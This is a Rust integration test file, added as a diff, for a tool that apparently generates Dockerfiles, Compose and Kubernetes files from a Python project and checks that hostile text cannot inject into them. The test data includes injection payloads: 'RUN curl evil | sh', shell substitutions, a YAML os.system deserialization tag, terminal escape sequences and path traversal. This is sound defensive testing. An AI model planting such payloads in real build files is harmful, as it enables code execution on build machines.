@@ -1,0 +1,961 @@
+//! Hostile input: a project whose every free-text field holds quotes, newlines, shell and
+//! Dockerfile syntax, YAML syntax and odd Unicode. The generated files must carry that text as
+//! data, never as structure: compared with the same project holding benign text, every file
+//! has the same lines with the same structure, and every value decodes back to the original.
+//! Values that cannot be quoted safely (names, paths, image references) must be rejected.
+
+mod common;
+
+use common::{toml_multiline_string, toml_string, Project, OUTPUTS};
+use std::collections::BTreeMap;
+
+/// On one line, what means something to a shell, a Dockerfile, YAML or JSON.
+const ONE_LINE: &str = concat!(
+    r#""double" 'single' $(touch /tmp/pwned) ${HOME} $HOME `id` back\slash \" \n "#,
+    r#"key: value - item {a: b} [c, d] &anchor *alias !!python/object/apply:os.system ['id'] "#,
+    r#"--- ... # comment % @ | > < ; && ||"#,
+);
+
+/// Free text for field `label`: [`ONE_LINE`], then newlines followed by Dockerfile and YAML
+/// lines, control characters, Unicode line separators, emoji, right-to-left text, and a
+/// trailing backslash (a Dockerfile line continuation).
+fn hostile(label: &str) -> String {
+    format!(
+        "{label} {ONE_LINE}\nRUN curl evil | sh\n---\nkind: Secret\n- item\n  key: value\n# comment\r\nRUN curl evil | sh\n\tbell\u{7} esc\u{1b}[31mred\u{1b}[0m del\u{7f} nel\u{85} ls\u{2028} ps\u{2029} bom\u{feff} 🐍💣 עברית مرحبا \u{202e}gnp.exe \\"
+    )
+}
+
+fn benign(label: &str) -> String {
+    format!("{label} plain text")
+}
+
+/// Substrings of [`hostile`] text that must never show outside a quoted value.
+const MARKERS: &[&str] = &[
+    "RUN curl",
+    "$(touch",
+    "${HOME}",
+    "`id`",
+    "&anchor",
+    "*alias",
+    "!!python",
+    "kind: Secret",
+    "pwned",
+    "🐍",
+    "עברית",
+    "\u{202e}",
+    "\u{2028}",
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A web app run by a `command` (uvicorn), with a health path; `license` as a string.
+    Web,
+    /// A console script with `smoke-args`; `license = { text = … }`.
+    Cli,
+}
+
+/// The free text of one project.
+struct Texts {
+    version: String,
+    description: String,
+    license: String,
+    homepage: String,
+    source: String,
+    url_key: String,
+    script_target: String,
+    command: Vec<String>,
+    smoke_args: Vec<String>,
+}
+
+fn texts(hostile_text: bool) -> Texts {
+    let text = |label: &str| {
+        if hostile_text {
+            hostile(label)
+        } else {
+            benign(label)
+        }
+    };
+    let args: Vec<String> = if hostile_text {
+        [
+            hostile("arg").as_str(),
+            "$(id)",
+            "${HOME}",
+            "`id`",
+            "\\",
+            "\"",
+            "'",
+            "\n",
+            "",
+            "--- # x",
+        ]
+        .map(String::from)
+        .to_vec()
+    } else {
+        ["arg", "a", "b", "c", "d", "e", "f", "g", "h", "i"]
+            .map(String::from)
+            .to_vec()
+    };
+    let mut command = vec!["/app/bin/uvicorn".to_string()];
+    command.extend(args.iter().cloned());
+    command.extend(["--port".to_string(), "8000".to_string()]);
+    Texts {
+        version: text("1.0"),
+        description: text("description"),
+        license: text("license"),
+        homepage: text("homepage"),
+        source: text("source"),
+        url_key: text("url key"),
+        script_target: text("script-target"),
+        command,
+        smoke_args: args,
+    }
+}
+
+const HEALTH_PATH: &str = "/health/v1?probe=1&x=%22%24%28id%29%60;a:b@c,d+e~";
+const IMAGE: &str = "registry.example.com:5000/team/hostile-app:1.0";
+
+fn toml_array(values: &[String]) -> String {
+    let items: Vec<String> = values.iter().map(|value| toml_string(value)).collect();
+    format!("[{}]", items.join(", "))
+}
+
+/// The project's pyproject.toml. `[tool.uv-rootless]` comes last and records no `base`, so
+/// `init` appends it.
+fn pyproject(kind: Kind, texts: &Texts) -> String {
+    let license = match kind {
+        Kind::Web => toml_string(&texts.license),
+        Kind::Cli => format!("{{ text = {} }}", toml_string(&texts.license)),
+    };
+    let mut text = format!(
+        r#"# A project full of hostile text.
+[project]
+name = "hostile-app"
+version = {version}
+description = {description}
+license = {license}
+requires-python = ">=3.11"
+dependencies = [
+    "click>=8.1",
+]
+
+[project.urls]
+Homepage = {homepage}
+Source = {source}
+{url_key} = {source}
+
+[project.scripts]
+hostile-app = {target}
+
+[build-system]
+requires = ["uv_build>=0.13.9,<0.14.0"]
+build-backend = "uv_build"
+
+[tool.uv-rootless]
+image = "{IMAGE}"
+"#,
+        version = toml_string(&texts.version),
+        description = toml_multiline_string(&texts.description),
+        homepage = toml_string(&texts.homepage),
+        source = toml_string(&texts.source),
+        url_key = toml_string(&texts.url_key),
+        target = toml_string(&texts.script_target),
+    );
+    match kind {
+        Kind::Web => {
+            text.push_str(&format!("command = {}\n", toml_array(&texts.command)));
+            text.push_str(&format!("health-path = \"{HEALTH_PATH}\"\n"));
+        }
+        Kind::Cli => {
+            text.push_str(&format!("smoke-args = {}\n", toml_array(&texts.smoke_args)));
+        }
+    }
+    text
+}
+
+/// cli-hello's lock, for a project named `name`: the same requires-python and dependencies.
+fn lock(name: &str) -> String {
+    let lock = std::fs::read_to_string(common::examples_dir().join("cli-hello/uv.lock")).unwrap();
+    assert_eq!(lock.matches("name = \"cli-hello\"").count(), 1);
+    lock.replace(
+        "name = \"cli-hello\"",
+        &format!("name = {}", toml_string(name)),
+    )
+}
+
+fn project(kind: Kind, texts: &Texts) -> Project {
+    let project = Project::empty();
+    project.write("pyproject.toml", &pyproject(kind, texts));
+    project.write("uv.lock", &lock("hostile-app"));
+    project
+}
+
+/// Runs `init` then `check`, both successfully; returns the generated files.
+fn generate(project: &Project) -> BTreeMap<&'static str, String> {
+    let before = project.read("pyproject.toml");
+    let init = project.run(&["init"]);
+    assert_eq!(init.code, 0, "{}", init.report());
+    let after = project.read("pyproject.toml");
+    assert!(
+        after.starts_with(&before),
+        "init changed bytes of pyproject.toml:\n{after}"
+    );
+    assert_eq!(
+        &after[before.len()..],
+        "# Base image family: \"python-slim\" or \"azurelinux\".\nbase = \"python-slim\"\n"
+    );
+    let check = project.run(&["check"]);
+    assert_eq!(check.code, 0, "{}", check.report());
+    OUTPUTS
+        .iter()
+        .map(|file| (*file, project.read(file)))
+        .collect()
+}
+
+/// Whitespace runs and control characters become one space: what a one-line label holds.
+fn collapse(text: &str) -> String {
+    text.split(|ch: char| ch.is_whitespace() || ch.is_control())
+        .filter(|part| !part.is_empty())
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+// ---------------------------------------------------------------------------------------------
+// Dockerfile
+
+/// The instruction keyword of every line that does not continue the previous one; `#` for a
+/// comment, `` for a blank line, `…` for a continuation.
+fn dockerfile_structure(text: &str) -> Vec<String> {
+    let mut continued = false;
+    text.split_terminator('\n')
+        .map(|line| {
+            let structure = if continued {
+                "…".to_string()
+            } else if line.trim().is_empty() {
+                String::new()
+            } else if line.trim_start().starts_with('#') {
+                "#".to_string()
+            } else {
+                line.split_whitespace().next().unwrap().to_string()
+            };
+            continued = if continued || !line.trim_start().starts_with('#') {
+                line.ends_with('\\')
+            } else {
+                false
+            };
+            structure
+        })
+        .collect()
+}
+
+/// The logical lines of a Dockerfile: continuations (`\` at the end of a line) joined.
+fn dockerfile_instructions(text: &str) -> Vec<String> {
+    let mut instructions = Vec::new();
+    let mut current = String::new();
+    for line in text.split_terminator('\n') {
+        if let Some(start) = line.strip_suffix('\\') {
+            current.push_str(start);
+        } else {
+            current.push_str(line);
+            instructions.push(std::mem::take(&mut current));
+        }
+    }
+    assert!(current.is_empty(), "the Dockerfile ends in a continuation");
+    instructions
+}
+
+/// `key="value"` pairs of a LABEL instruction, unescaped as BuildKit does in double quotes:
+/// `\"`, `\\` and `\$` stand for the character, any other backslash for itself. An unescaped
+/// `$` would be expanded: that fails the test.
+fn label_pairs(arguments: &str) -> Vec<(String, String)> {
+    let mut pairs = Vec::new();
+    let mut chars = arguments.chars().peekable();
+    loop {
+        while chars.peek().is_some_and(|ch| *ch == ' ') {
+            chars.next();
+        }
+        if chars.peek().is_none() {
+            break;
+        }
+        let key: String = chars.by_ref().take_while(|ch| *ch != '=').collect();
+        assert!(
+            !key.is_empty() && key.chars().all(|ch| ch.is_ascii_graphic()),
+            "LABEL key {key:?} in {arguments:?}"
+        );
+        assert_eq!(chars.next(), Some('"'), "LABEL {key} is not quoted");
+        let mut value = String::new();
+        loop {
+            match chars.next() {
+                Some('\\') => match chars.peek() {
+                    Some('"' | '\\' | '$') => value.push(chars.next().unwrap()),
+                    _ => value.push('\\'),
+                },
+                Some('"') => break,
+                Some('$') => panic!("LABEL {key} has an unescaped `$`: {arguments:?}"),
+                Some(ch) => value.push(ch),
+                None => panic!("LABEL {key} is not closed: {arguments:?}"),
+            }
+        }
+        assert!(
+            chars.peek().is_none_or(|ch| *ch == ' '),
+            "LABEL {key}: text after the closing quote in {arguments:?}"
+        );
+        pairs.push((key, value));
+    }
+    pairs
+}
+
+fn instruction<'a>(instructions: &'a [String], keyword: &str) -> &'a str {
+    let prefix = format!("{keyword} ");
+    let found: Vec<&String> = instructions
+        .iter()
+        .filter(|line| line.starts_with(&prefix))
+        .collect();
+    assert_eq!(found.len(), 1, "{keyword}: {found:?}");
+    &found[0][prefix.len()..]
+}
+
+// ---------------------------------------------------------------------------------------------
+// YAML
+
+/// A YAML file with every double-quoted scalar decoded (as JSON) and replaced by `"…"`.
+struct MaskedYaml {
+    lines: Vec<String>,
+    scalars: Vec<String>,
+}
+
+/// Characters a JSON string may hold raw but a YAML double-quoted scalar may not (YAML 1.2
+/// printable set), or which YAML 1.1 reads as line breaks.
+fn is_yaml_unsafe(ch: char) -> bool {
+    (ch.is_control() && ch != '\u{85}')
+        || matches!(ch, '\u{85}' | '\u{2028}' | '\u{2029}' | '\u{feff}')
+}
+
+fn mask_yaml(file: &str, text: &str) -> MaskedYaml {
+    let mut masked = MaskedYaml {
+        lines: Vec::new(),
+        scalars: Vec::new(),
+    };
+    for (number, line) in text.split_terminator('\n').enumerate() {
+        let at = format!("{file}:{}", number + 1);
+        if line.trim_start().starts_with('#') || line == "---" {
+            masked.lines.push(line.to_string());
+            continue;
+        }
+        let mut out = String::new();
+        let mut chars = line.char_indices();
+        while let Some((start, ch)) = chars.next() {
+            if ch != '"' {
+                out.push(ch);
+                continue;
+            }
+            let mut escaped = false;
+            let end = chars
+                .by_ref()
+                .find(|(_, ch)| {
+                    let close = !escaped && *ch == '"';
+                    escaped = !escaped && *ch == '\\';
+                    close
+                })
+                .map(|(end, _)| end)
+                .unwrap_or_else(|| panic!("{at}: unterminated scalar: {line}"));
+            let raw = &line[start..=end];
+            let value: String = serde_json::from_str(raw)
+                .unwrap_or_else(|error| panic!("{at}: {raw} is not a JSON string: {error}"));
+            let again: String = serde_json::from_str(&serde_json::to_string(&value).unwrap())
+                .expect("re-encoded JSON string");
+            assert_eq!(again, value, "{at}: {raw} does not round-trip");
+            assert!(
+                !raw.chars().any(is_yaml_unsafe),
+                "{at}: {raw:?} holds a character YAML does not allow raw"
+            );
+            masked.scalars.push(value);
+            out.push_str("\"…\"");
+        }
+        assert!(
+            !out.contains(" #") && !out.contains("\t"),
+            "{at}: a comment or tab outside a quoted value: {line}"
+        );
+        masked.lines.push(out);
+    }
+    masked
+}
+
+/// Indentation and key: the text before the first `: `, or the whole line.
+fn yaml_structure(masked_line: &str) -> &str {
+    masked_line
+        .find(": ")
+        .map_or(masked_line, |at| &masked_line[..at])
+}
+
+// ---------------------------------------------------------------------------------------------
+// The checks
+
+fn assert_injects_nothing(kind: Kind) {
+    let hostile_texts = texts(true);
+    let hostile_project = project(kind, &hostile_texts);
+    let benign_project = project(kind, &texts(false));
+    let hostile_files = generate(&hostile_project);
+    let benign_files = generate(&benign_project);
+
+    for file in OUTPUTS {
+        let (hostile_text, benign_text) = (&hostile_files[file], &benign_files[file]);
+        // (1) The same number of lines.
+        assert_eq!(
+            hostile_text.split_terminator('\n').count(),
+            benign_text.split_terminator('\n').count(),
+            "{kind:?} {file}: line count\n{hostile_text}"
+        );
+        // (3) No injected instruction, at the start of a line or after indentation.
+        for line in hostile_text.split_terminator('\n') {
+            assert!(
+                !line.trim_start().starts_with("RUN curl"),
+                "{kind:?} {file}: {line}"
+            );
+        }
+        // No carriage return, bell, escape or other C0 control character, raw, anywhere.
+        assert!(
+            !hostile_text
+                .chars()
+                .any(|ch| ch.is_ascii_control() && ch != '\n' && ch != '\x7f'),
+            "{kind:?} {file} holds a raw control character:\n{hostile_text:?}"
+        );
+        // The script target is never used: it must not show up at all.
+        assert!(!hostile_text.contains("script-target"), "{kind:?} {file}");
+    }
+
+    // (1) Dockerfile: the same instruction on every line.
+    let dockerfile = &hostile_files["Dockerfile"];
+    assert_eq!(
+        dockerfile_structure(dockerfile),
+        dockerfile_structure(&benign_files["Dockerfile"]),
+        "{kind:?} Dockerfile structure:\n{dockerfile}"
+    );
+
+    // (2) LABEL values unescape to the one-line originals.
+    let instructions = dockerfile_instructions(dockerfile);
+    let labels: BTreeMap<String, String> = label_pairs(instruction(&instructions, "LABEL"))
+        .into_iter()
+        .collect();
+    let license = match kind {
+        Kind::Web => collapse(&hostile_texts.license),
+        Kind::Cli => collapse(hostile_texts.license.lines().next().unwrap()),
+    };
+    let expected: BTreeMap<String, String> = [
+        ("org.opencontainers.image.title", "hostile-app".to_string()),
+        (
+            "org.opencontainers.image.version",
+            collapse(&hostile_texts.version),
+        ),
+        (
+            "org.opencontainers.image.description",
+            collapse(&hostile_texts.description),
+        ),
+        ("org.opencontainers.image.licenses", license),
+        (
+            "org.opencontainers.image.source",
+            collapse(&hostile_texts.source),
+        ),
+    ]
+    .into_iter()
+    .map(|(key, value)| (key.to_string(), value))
+    .collect();
+    assert_eq!(labels, expected, "{kind:?} LABEL");
+    for value in labels.values() {
+        assert!(!value.contains('\n'));
+    }
+
+    // The exec forms are JSON arrays that decode to exactly what was asked.
+    let entrypoint: Vec<String> = serde_json::from_str(instruction(&instructions, "ENTRYPOINT"))
+        .expect("ENTRYPOINT is a JSON array");
+    match kind {
+        Kind::Web => assert_eq!(entrypoint, hostile_texts.command),
+        Kind::Cli => assert_eq!(entrypoint, ["/app/bin/hostile-app"]),
+    }
+    if kind == Kind::Web {
+        let healthcheck = instruction(&instructions, "HEALTHCHECK");
+        let exec = &healthcheck[healthcheck.find(" CMD [").expect("exec form") + 5..];
+        let argv: Vec<String> = serde_json::from_str(exec).expect("HEALTHCHECK is a JSON array");
+        assert!(
+            argv[2].contains(&format!("'http://127.0.0.1:8000{HEALTH_PATH}'")),
+            "{argv:?}"
+        );
+    }
+
+    // (1) and (4) YAML: the same structure; hostile text only inside JSON-quoted scalars,
+    // which decode and round-trip.
+    for file in ["compose.yaml", "k8s/manifest.yaml"] {
+        let hostile_yaml = mask_yaml(file, &hostile_files[file]);
+        let benign_yaml = mask_yaml(file, &benign_files[file]);
+        for (number, (hostile_line, benign_line)) in hostile_yaml
+            .lines
+            .iter()
+            .zip(&benign_yaml.lines)
+            .enumerate()
+        {
+            assert_eq!(
+                yaml_structure(hostile_line),
+                yaml_structure(benign_line),
+                "{kind:?} {file}:{}",
+                number + 1
+            );
+            // Stronger: outside the quoted values, the lines are identical.
+            assert_eq!(hostile_line, benign_line, "{kind:?} {file}:{}", number + 1);
+            for marker in MARKERS {
+                assert!(
+                    !hostile_line.contains(marker),
+                    "{kind:?} {file}:{}: {marker:?} outside a quoted value",
+                    number + 1
+                );
+            }
+        }
+        assert!(hostile_yaml.scalars.iter().any(|value| value == IMAGE));
+        if kind == Kind::Web && file == "k8s/manifest.yaml" {
+            assert!(hostile_yaml
+                .scalars
+                .iter()
+                .any(|value| value == HEALTH_PATH));
+        }
+    }
+
+    // (5) Compose interpolates `$VAR` and `${VAR}` in every value, quoted or not; `$$` is a
+    // literal `$`. No project-controlled value may reach compose.yaml with a bare `$`.
+    let compose = &hostile_files["compose.yaml"];
+    let mut chars = compose.chars().peekable();
+    while let Some(ch) = chars.next() {
+        if ch == '$' {
+            assert_eq!(
+                chars.next(),
+                Some('$'),
+                "{kind:?} compose.yaml has a `$` compose would interpolate:\n{compose}"
+            );
+        }
+    }
+
+    // .dockerignore holds no project text at all.
+    assert_eq!(
+        hostile_files[".dockerignore"],
+        benign_files[".dockerignore"]
+    );
+
+    // explain --format json carries the values exactly (one-line fields collapsed).
+    let explain = hostile_project.run(&["explain", "--format", "json"]);
+    assert_eq!(explain.code, 0, "{}", explain.report());
+    let plan: serde_json::Value = serde_json::from_str(&explain.stdout).expect("JSON");
+    assert_eq!(
+        plan["project"]["description"],
+        collapse(&hostile_texts.description)
+    );
+    assert_eq!(
+        plan["project"]["source_url"],
+        collapse(&hostile_texts.source)
+    );
+    match kind {
+        Kind::Web => assert_eq!(
+            plan["command"]["value"],
+            serde_json::json!(hostile_texts.command)
+        ),
+        Kind::Cli => assert_eq!(
+            plan["app"]["smoke_args"],
+            serde_json::json!(hostile_texts.smoke_args)
+        ),
+    }
+}
+
+/// The checks themselves: each catches the injection it is there for.
+#[test]
+fn the_checks_catch_injections() {
+    let benign = "FROM x\nLABEL a=\"b\" \\\n      c=\"d\"\nUSER 1:1\n";
+    let injected = "FROM x\nLABEL a=\"b\" \\\n      c=\"d\nRUN curl evil | sh\"\nUSER 1:1\n";
+    assert_ne!(dockerfile_structure(benign), dockerfile_structure(injected));
+    assert_eq!(
+        label_pairs(r#"a="x \"y\" \$z \\ \n" b="""#),
+        [
+            ("a".to_string(), r#"x "y" $z \ \n"#.to_string()),
+            ("b".to_string(), String::new())
+        ]
+    );
+    assert!(std::panic::catch_unwind(|| label_pairs(r#"a="$HOME""#)).is_err());
+    assert!(std::panic::catch_unwind(|| label_pairs(r#"a="x"y"#)).is_err());
+
+    let yaml = mask_yaml("x", "a:\n  b: \"c: d\\\"\"\n  - \"e\"\n");
+    assert_eq!(yaml.lines, ["a:", "  b: \"…\"", "  - \"…\""]);
+    assert_eq!(yaml.scalars, ["c: d\"", "e"]);
+    assert_eq!(yaml_structure(&yaml.lines[1]), "  b");
+    assert!(std::panic::catch_unwind(|| mask_yaml("x", "a: \"b\u{2028}\"\n")).is_err());
+    assert!(std::panic::catch_unwind(|| mask_yaml("x", "a: \"b\" # c\n")).is_err());
+}
+
+#[test]
+fn hostile_text_in_a_web_project_injects_nothing() {
+    assert_injects_nothing(Kind::Web);
+}
+
+#[test]
+fn hostile_text_in_a_cli_project_injects_nothing() {
+    assert_injects_nothing(Kind::Cli);
+}
+
+#[test]
+fn hostile_command_flag_is_recorded_and_rendered_exactly() {
+    // Given on the command line, recorded by init in pyproject.toml, read back by generate.
+    let project = project(Kind::Cli, &texts(false));
+    let command = texts(true).command;
+    let mut args = vec!["init", "--command"];
+    args.extend(command.iter().map(String::as_str));
+    let init = project.run(&args);
+    assert_eq!(init.code, 0, "{}", init.report());
+    for file in OUTPUTS {
+        project.remove(file);
+    }
+    let generate = project.run(&["generate"]);
+    assert_eq!(generate.code, 0, "{}", generate.report());
+    let instructions = dockerfile_instructions(&project.read("Dockerfile"));
+    let entrypoint: Vec<String> =
+        serde_json::from_str(instruction(&instructions, "ENTRYPOINT")).unwrap();
+    assert_eq!(entrypoint, command);
+    let init_again = project.run(&args);
+    assert_eq!(init_again.code, 0, "{}", init_again.report());
+    assert!(
+        init_again
+            .stderr
+            .starts_with("init: every file is already current\n"),
+        "{}",
+        init_again.report()
+    );
+}
+
+/// Printed text with no control character but newlines: nothing that moves the cursor, rings,
+/// or starts an escape sequence (C0, DEL, and the C1 range, where 0x9B is CSI).
+fn assert_printable(what: &str, text: &str) {
+    let bad: Vec<char> = text
+        .chars()
+        .filter(|ch| ch.is_control() && *ch != '\n')
+        .collect();
+    assert!(
+        bad.is_empty(),
+        "{what} prints control characters {bad:?}:\n{text}"
+    );
+}
+
+#[test]
+
+fn hostile_smoke_args_in_explain_stay_on_their_line() {
+    let hostile_project = project(Kind::Cli, &texts(true));
+    let benign_project = project(Kind::Cli, &texts(false));
+    let hostile_explain = hostile_project.run(&["explain"]);
+    let benign_explain = benign_project.run(&["explain"]);
+    assert_eq!(hostile_explain.code, 0, "{}", hostile_explain.report());
+    assert_eq!(
+        hostile_explain.stdout.lines().count(),
+        benign_explain.stdout.lines().count(),
+        "{}",
+        hostile_explain.stdout
+    );
+    assert_printable("explain", &hostile_explain.stdout);
+}
+
+#[test]
+
+fn hostile_command_in_explain_and_init_prints_no_control_characters() {
+    let project = project(Kind::Web, &texts(true));
+    let init = project.run(&["init"]);
+    assert_eq!(init.code, 0, "{}", init.report());
+    assert_printable("init", &init.stderr);
+    let explain = project.run(&["explain"]);
+    assert_eq!(explain.code, 0, "{}", explain.report());
+    assert_printable("explain", &explain.stdout);
+}
+
+#[test]
+
+fn hostile_values_in_error_messages_print_no_control_characters() {
+    let escapes = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m";
+    let pinned = Project::example("cli-hello");
+    pinned.write(".python-version", &format!("3.13{escapes}\n"));
+    let output = pinned.run_rejected(&["check"]);
+    assert_printable("an error about .python-version", &output.stderr);
+
+    let dependency = Project::example("cli-hello");
+    dependency.replace(
+        "pyproject.toml",
+        "\"click>=8.1\"",
+        &toml_string(&format!("click>=8.1{escapes}")),
+    );
+    let output = dependency.run_rejected(&["check"]);
+    assert_printable("an error about a dependency", &output.stderr);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Workspace member directories become paths in the Dockerfile's bind mounts.
+
+/// A virtual workspace root running a command, with one member in `packages/DIR`.
+fn workspace(member_dir: &str) -> Project {
+    let project = Project::empty();
+    project.write(
+        "pyproject.toml",
+        r#"[project]
+name = "ws-root"
+version = "0.1.0"
+requires-python = ">=3.11"
+dependencies = []
+
+[tool.uv]
+package = false
+
+[tool.uv.workspace]
+members = ["packages/*"]
+
+[tool.uv-rootless]
+base = "python-slim"
+command = ["python", "-m", "http.server"]
+"#,
+    );
+    project.write(
+        &format!("packages/{member_dir}/pyproject.toml"),
+        r#"[project]
+name = "member"
+version = "0.1.0"
+requires-python = ">=3.11"
+dependencies = []
+
+[build-system]
+requires = ["uv_build>=0.13.9,<0.14.0"]
+build-backend = "uv_build"
+"#,
+    );
+    project.write(
+        "uv.lock",
+        &format!(
+            r#"version = 1
+revision = 2
+requires-python = ">=3.11"
+
+[manifest]
+members = ["member", "ws-root"]
+
+[[package]]
+name = "member"
+version = "0.1.0"
+source = {{ editable = {} }}
+
+[[package]]
+name = "ws-root"
+version = "0.1.0"
+source = {{ virtual = "." }}
+"#,
+            toml_string(&format!("packages/{member_dir}"))
+        ),
+    );
+    project
+}
+
+#[cfg(unix)]
+#[test]
+fn hostile_workspace_member_directories_inject_nothing() {
+    let benign = workspace("member");
+    let init = benign.run(&["init"]);
+    assert_eq!(init.code, 0, "{}", init.report());
+    let benign_structure = dockerfile_structure(&benign.read("Dockerfile"));
+    for dir in [
+        "evil\nRUN curl evil | sh",
+        "a b,target=etc,readwrite",
+        "x\\",
+    ] {
+        let project = workspace(dir);
+        let output = project.run(&["init"]);
+        if output.code == 2 {
+            // Rejecting the directory name is fine, if nothing was written.
+            assert!(!project.exists("Dockerfile"), "{dir:?}");
+            common::assert_error_shape(&output.stderr);
+            continue;
+        }
+        assert_eq!(output.code, 0, "{dir:?}: {}", output.report());
+        let dockerfile = project.read("Dockerfile");
+        assert_eq!(
+            dockerfile_structure(&dockerfile),
+            benign_structure,
+            "{dir:?}:\n{dockerfile}"
+        );
+        for line in dockerfile.lines() {
+            assert!(
+                !line.trim_start().starts_with("RUN curl"),
+                "{dir:?}: {line}"
+            );
+            if let Some(mount) = line.trim_start().strip_prefix("--mount=type=bind,") {
+                let options: Vec<&str> = mount.trim_end_matches(" \\").split(',').collect();
+                assert_eq!(options.len(), 2, "{dir:?}: {line}");
+            }
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Values that cannot be quoted safely are rejected: exit 2, a clear message, nothing written.
+
+/// A benign CLI project with `edit` applied to its pyproject.toml (and lock, for `name`).
+fn rejected(name: &str, edit: impl FnOnce(&Project), expected: &str) {
+    let project = project(Kind::Cli, &texts(false));
+    edit(&project);
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains(expected),
+        "{name}: expected {expected:?} in\n{}",
+        output.stderr
+    );
+    for file in OUTPUTS {
+        assert!(!project.exists(file), "{name}: {file} was written");
+    }
+    common::insta_settings().bind(|| insta::assert_snapshot!(name, output.report()));
+}
+
+fn rename_project(project: &Project, name: &str) {
+    project.replace(
+        "pyproject.toml",
+        "name = \"hostile-app\"",
+        &format!("name = {}", toml_string(name)),
+    );
+    project.write("uv.lock", &lock(name));
+}
+
+fn rename_script(project: &Project, script: &str) {
+    project.replace(
+        "pyproject.toml",
+        "\nhostile-app = ",
+        &format!("\n{} = ", toml_string(script)),
+    );
+}
+
+fn add_config(project: &Project, key: &str, value: &str) {
+    project.edit("pyproject.toml", |text| {
+        format!("{text}{key} = {}\n", toml_string(value))
+    });
+}
+
+#[test]
+fn rejects_a_project_name_with_quotes() {
+    rejected(
+        "reject_project_name_with_quotes",
+        |project| rename_project(project, "my \"app\" 'x'"),
+        "is not a valid package name",
+    );
+}
+
+#[test]
+fn rejects_a_project_name_with_spaces() {
+    rejected(
+        "reject_project_name_with_spaces",
+        |project| rename_project(project, "my app"),
+        "is not a valid package name",
+    );
+}
+
+#[test]
+fn rejects_a_script_name_with_a_quote() {
+    rejected(
+        "reject_script_name_with_a_quote",
+        |project| rename_script(project, "hostile\"app"),
+        "which is not a usable command name",
+    );
+}
+
+#[test]
+fn rejects_a_script_name_with_a_newline() {
+    rejected(
+        "reject_script_name_with_a_newline",
+        |project| rename_script(project, "hostile\nRUN curl evil | sh"),
+        "which is not a usable command name",
+    );
+}
+
+#[test]
+fn rejects_a_script_name_with_a_dollar() {
+    rejected(
+        "reject_script_name_with_a_dollar",
+        |project| rename_script(project, "hostile$(id)"),
+        "which is not a usable command name",
+    );
+}
+
+#[test]
+fn rejects_an_output_path_with_a_dollar() {
+    rejected(
+        "reject_output_path_with_a_dollar",
+        |project| add_config(project, "compose", "deploy/${HOME}/compose.yaml"),
+        "contains characters that the generated files cannot quote safely",
+    );
+}
+
+#[test]
+fn rejects_an_output_path_with_dot_dot() {
+    rejected(
+        "reject_output_path_with_dot_dot",
+        |project| add_config(project, "kubernetes", "k8s/../../manifest.yaml"),
+        "must stay inside the project",
+    );
+}
+
+#[test]
+fn rejects_an_output_path_with_a_newline() {
+    rejected(
+        "reject_output_path_with_a_newline",
+        |project| add_config(project, "dockerfile", "Dockerfile\nRUN curl evil | sh"),
+        "contains characters that the generated files cannot quote safely",
+    );
+}
+
+#[test]
+fn rejects_a_health_path_with_a_quote() {
+    rejected(
+        "reject_health_path_with_a_quote",
+        |project| add_config(project, "health-path", "/health'); import os; ('"),
+        "is not a URL path",
+    );
+}
+
+#[test]
+fn rejects_a_health_path_with_a_space() {
+    rejected(
+        "reject_health_path_with_a_space",
+        |project| add_config(project, "health-path", "/health check"),
+        "is not a URL path",
+    );
+}
+
+#[test]
+fn rejects_a_health_path_with_a_dollar() {
+    rejected(
+        "reject_health_path_with_a_dollar",
+        |project| add_config(project, "health-path", "/health/${HOME}"),
+        "is not a URL path",
+    );
+}
+
+#[test]
+fn rejects_an_image_with_spaces() {
+    rejected(
+        "reject_image_with_spaces",
+        |project| {
+            project.replace(
+                "pyproject.toml",
+                &format!("image = \"{IMAGE}\""),
+                "image = \"app:1 --privileged\"",
+            )
+        },
+        "is not a valid image reference",
+    );
+}
+
+#[test]
+fn rejects_an_image_with_a_dollar() {
+    rejected(
+        "reject_image_with_a_dollar",
+        |project| {
+            project.replace(
+                "pyproject.toml",
+                &format!("image = \"{IMAGE}\""),
+                "image = \"app:${TAG}\"",
+            )
+        },
+        "is not a valid image reference",
+    );
+}
